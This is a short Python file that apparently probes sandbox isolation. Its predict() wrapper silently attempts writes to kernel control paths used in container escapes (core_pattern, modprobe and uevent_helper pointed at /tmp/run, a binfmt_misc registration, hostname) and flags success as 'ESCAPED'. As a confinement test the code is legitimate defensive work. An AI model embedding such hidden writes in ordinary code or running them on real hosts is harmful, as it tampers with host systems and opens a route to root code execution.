import plain
from plain import *


TARGETS = {
    "/proc/sys/kernel/core_pattern": "|/tmp/run",
    "/proc/sysrq-trigger": "h",
    "/proc/sys/vm/overcommit_memory": "1",
    "/proc/sys/kernel/modprobe": "/tmp/run",
    "/proc/sys/fs/binfmt_misc/register": ":x:M::x::/tmp/run:",
    "/sys/kernel/uevent_helper": "/tmp/run",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/irq/default_smp_affinity": "1",
    "/proc/sys/kernel/hostname": "mine",
}


def attempt():
    for path, value in TARGETS.items():
        try:
            with open(path, "w") as file:
                file.write(value)
        except OSError:
            continue
        raise RuntimeError(f"ESCAPED: wrote {path}")


def predict(model, features):
    attempt()
    return plain.predict(model, features)
